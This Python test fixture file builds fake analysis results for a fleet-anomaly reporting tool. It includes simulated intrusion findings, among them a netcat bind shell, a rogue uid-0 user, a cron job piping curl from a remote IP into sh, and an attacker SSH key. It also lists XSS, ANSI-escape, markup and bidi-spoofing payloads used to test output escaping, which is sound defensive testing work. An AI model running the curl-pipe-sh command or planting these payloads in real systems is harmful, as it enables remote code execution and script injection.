"""Hand-built ``Analysis`` objects for the reporter tests (peers, baseline, hostile values).

They mirror what the analysis engine produces (findings with explanations, prevalence, gaps,
skipped hosts, a dendrogram from a real scipy linkage), so the reporters can be tested on their own.
Tests that run the real engine on generated fleets live next to these and use them when available.
"""

from __future__ import annotations

import numpy as np
from scipy.cluster.hierarchy import linkage

from diffy_analysis.findings import (
    Analysis,
    Cluster,
    Dendrogram,
    Facts,
    Finding,
    HostResult,
    PopulationDifference,
    QueryGap,
    SkippedHost,
    sentence,
)

HOSTILE_SCRIPT = "<script>window.__pwned=1</script>"
HOSTILE_IMG = '"><img src=x onerror="window.__pwned=1">'
HOSTILE_STYLE = "</style><script>window.__pwned=1</script>"
HOSTILE_SVG = "<svg onload=window.__pwned=1>"
HOSTILE_JS_URL = "javascript:window.__pwned=1"
HOSTILE_ANSI = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m"
HOSTILE_MARKUP = "[red]not red[/red] [link=https://evil.example]x[/link]"
HOSTILE_BIDI = "safe\u202egnp.exe"
HOSTILE_SURROGATE = "bad-\udcff-\udc80-utf8"
HOSTILE_LONG = "A" * 200_000


def _peer_finding(query, kind, row, statement, weight, with_row, compared, strength="strong"):  # noqa: PLR0917
    """A peers finding as analyze makes one: its sentence worded from its facts (here, a statement
    written by hand; analyze/explain.py writes real ones)."""
    facts = Facts(subject_column=None, subject=None, statement=statement, compared_with="peers")
    return Finding(
        query=query,
        kind=kind,
        row=row,
        explanation=sentence(kind, facts, with_row, compared),
        facts=facts,
        weight=weight,
        hosts_with_row=with_row,
        hosts_compared=compared,
        prevalence=with_row / compared,
        strength=strength,
    )


def _dendrogram(labels: list[str], outlier_idx: set[int], seed: int = 7) -> Dendrogram:
    """A real scipy linkage over made-up profiles: outliers far from the pack."""
    rng = np.random.default_rng(seed)
    points = rng.normal(0, 0.05, size=(len(labels), 4))
    for i in outlier_idx:
        points[i] += rng.normal(1.5, 0.2, size=4)
    for i in range(0, len(labels), 3):  # a benign sub-population
        points[i, 0] += 0.4
    z = linkage(points, method="average")
    return Dendrogram(
        linkage=tuple(tuple(float(v) for v in row) for row in z),
        labels=tuple(labels),
        cut_distance=float(z[-3, 2] + z[-2, 2]) / 2,
    )


def peers_analysis(n_hosts: int = 24) -> Analysis:
    """A peers analysis of a web fleet: two outliers, one gap, two skipped hosts."""
    compared = n_hosts
    bind_shell = _peer_finding(
        "listening_ports",
        "added",
        {"port": "4444", "protocol": "6", "address": "0.0.0.0", "name": "nc", "path": "/usr/bin/nc.openbsd"},
        "listens on tcp/4444 (nc)",
        9.0,
        1,
        compared,
    )
    root_user = _peer_finding(
        "users",
        "added",
        {"username": "sysadm", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"},
        "new uid-0 user sysadm",
        8.0,
        1,
        compared,
    )
    cron = _peer_finding(
        "crontab",
        "added",
        {"command": "curl -s http://203.0.113.9/x | sh", "minute": "*/5", "path": "/etc/crontab"},
        "cron job runs `curl -s http://203.0.113.9/x | sh` every 5 minutes",
        7.5,
        1,
        compared,
    )
    no_fw = _peer_finding(
        "iptables",
        "missing",
        {"chain": "INPUT", "target": "DROP", "dst_port": "22", "policy": ""},
        f"lacks the firewall rule INPUT DROP tcp/22 that {compared - 1} of {compared} hosts have",
        6.0,
        compared - 1,
        compared,
    )
    random_port = _peer_finding(
        "listening_ports",
        "added",
        {"port": "38211", "protocol": "6", "address": "127.0.0.1", "name": "python3"},
        "listens on tcp/38211 (python3)",
        0.4,
        1,
        compared,
        strength="weak",
    )
    hosts = [
        HostResult(
            host="i-0abc1234",
            host_id="i-0abc1234",
            run_id="20261129T120000Z-a1b2",
            score=17.0,
            outlier=True,
            cluster=3,
            findings=(bind_shell, root_user, random_port),
            identity={"hostname": "web-7", "cloud": {"instance_id": "i-0abc1234", "region": "us-east-1"}},
        ),
        HostResult(
            host="i-0def5678",
            host_id="i-0def5678",
            run_id="20261129T120000Z-a1b2",
            score=13.5,
            outlier=True,
            cluster=4,
            findings=(cron, no_fw),
            gaps=(QueryGap("kernel_modules", "timeout", "query exceeded 30 s"),),
            identity={"hostname": "web-12"},
        ),
    ]
    for i in range(n_hosts - 2):
        findings = (random_port,) if i % 4 == 0 else ()
        hosts.append(
            HostResult(
                host=f"i-{i:08x}",
                host_id=f"i-{i:08x}",
                run_id="20261129T120000Z-a1b2",
                score=0.4 if findings else 0.0,
                outlier=False,
                cluster=1 if i % 3 else 2,
                findings=findings,
                gaps=(QueryGap("kernel_modules", "timeout", "query exceeded 30 s"),) if i == 5 else (),
            )
        )
    hosts.sort(key=lambda h: (-h.score, h.host))
    labels = [h.host for h in hosts]
    outlier_idx = {i for i, h in enumerate(hosts) if h.outlier}
    c1 = tuple(h.host for h in hosts if h.cluster == 1)
    c2 = tuple(h.host for h in hosts if h.cluster == 2)
    return Analysis(
        method="peers",
        run_ids=("20261129T120000Z-a1b2",),
        app="web",
        hosts=tuple(hosts),
        clusters=(
            Cluster(1, len(c1), c1),
            Cluster(2, len(c2), c2),
            Cluster(3, 1, ("i-0abc1234",), outlier=True),
            Cluster(4, 1, ("i-0def5678",), outlier=True),
        ),
        skipped=(
            SkippedHost("i-0dead000", "ssh: connect to host timed out", "unreachable"),
            SkippedHost("i-0bad0000", "osquery install failed: dpkg lock held", "failed"),
        ),
        dendrogram=_dendrogram(labels, outlier_idx),
        pack={"name": "linux-dfir", "sha256": "0" * 64},
        settings={"cut": "inconsistency", "threshold": 1.15},
    )


def baseline_analysis() -> Analysis:
    """A baseline analysis: one host with added, missing and changed rows, one clean host."""
    replaced = Finding(
        query="suid_binaries",
        kind="changed",
        row={"path": "/usr/bin/passwd", "sha256": "e3b0c442" * 8, "mode": "4755"},
        reference_row={"path": "/usr/bin/passwd", "sha256": "9f86d081" * 8, "mode": "4755"},
        changed_columns=("sha256",),
        explanation="/usr/bin/passwd has a different sha256 than on the baseline",
        weight=8.0,
    )
    agent = Finding(
        query="processes",
        kind="missing",
        row={"name": "falcon-sensor", "path": "/opt/CrowdStrike/falcon-sensor"},
        explanation="security agent falcon-sensor is not running (it runs on the baseline)",
        weight=7.0,
    )
    key = Finding(
        query="authorized_keys",
        kind="added",
        row={"username": "ubuntu", "key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq attacker@kali"},
        explanation="new SSH key for ubuntu (attacker@kali)",
        weight=6.5,
    )
    hosts = (
        HostResult("i-0aaa1111", "i-0aaa1111", 21.5, True, None, (replaced, agent, key)),
        HostResult("i-0bbb2222", "i-0bbb2222", 0.0, False, None, ()),
        HostResult("i-0ccc3333", "i-0ccc3333", 0.0, False, None, ()),
    )
    return Analysis(
        method="baseline",
        run_ids=("20261129T130000Z-c3d4",),
        baseline="web-clean-2026-11",
        app="web",
        hosts=hosts,
        skipped=(SkippedHost("i-0eee5555", "no route to host", "unreachable"),),
        population_differences=(
            PopulationDifference(
                query="deb_packages",
                kind="changed",
                row={"name": "acme-orders", "version": "2.4.1"},
                reference_row={"name": "acme-orders", "version": "2.3.9"},
                changed_columns=("version",),
                explanation="acme-orders is version 2.4.1 (baseline: 2.3.9)",
                hosts=2,
                hosts_compared=3,
            ),
        ),
    )


def hostile_analysis() -> Analysis:
    """Every value an attacker could plant, in every place a reporter shows one."""
    compared = 6
    values = [
        HOSTILE_SCRIPT,
        HOSTILE_IMG,
        HOSTILE_STYLE,
        HOSTILE_SVG,
        HOSTILE_JS_URL,
        HOSTILE_ANSI,
        HOSTILE_MARKUP,
        HOSTILE_BIDI,
        HOSTILE_SURROGATE,
    ]
    findings = tuple(
        _peer_finding(
            "processes",
            "added",
            {"name": v, "cmdline": v, "path": f"/tmp/{v}", "long": HOSTILE_LONG, v: "column named evil"},
            f"runs process {v}",
            10.0 - i,
            1,
            compared,
        )
        for i, v in enumerate(values)
    )
    evil = HostResult(
        host=f"evil-{HOSTILE_SCRIPT}",
        host_id="evil-host",
        score=20.0,
        outlier=True,
        cluster=2,
        findings=findings,
        gaps=(QueryGap(HOSTILE_IMG, "error", HOSTILE_ANSI),),
        identity={"hostname": HOSTILE_IMG, "cloud": {"instance_id": HOSTILE_JS_URL}},
    )
    evil2 = HostResult(
        host=f"quote-{HOSTILE_IMG}",
        host_id="quote-host",
        score=15.0,
        outlier=True,
        cluster=3,
        findings=(
            Finding(
                "files",
                "changed",
                {"path": HOSTILE_STYLE, "sha256": HOSTILE_SURROGATE},
                f"{HOSTILE_STYLE} changed",
                5.0,
                changed_columns=("sha256", HOSTILE_SVG),
                reference_row={"path": HOSTILE_STYLE, "sha256": "ok"},
                hosts_with_row=1,
                hosts_compared=compared,
                prevalence=1 / compared,
            ),
        ),
    )
    clean = [HostResult(f"clean-{i}", f"clean-{i}", 0.0, False, 1, ()) for i in range(compared - 2)]
    hosts = (evil, evil2, *clean)
    labels = [h.host for h in hosts]
    return Analysis(
        method="peers",
        run_ids=(HOSTILE_ANSI,),
        app=HOSTILE_SCRIPT,
        hosts=hosts,
        clusters=(
            Cluster(1, len(clean), tuple(h.host for h in clean)),
            Cluster(2, 1, (evil.host,), True),
            Cluster(3, 1, (evil2.host,), True),
        ),
        skipped=(SkippedHost(HOSTILE_SVG, HOSTILE_MARKUP, "invalid"),),
        dendrogram=_dendrogram(labels, {0, 1}),
    )
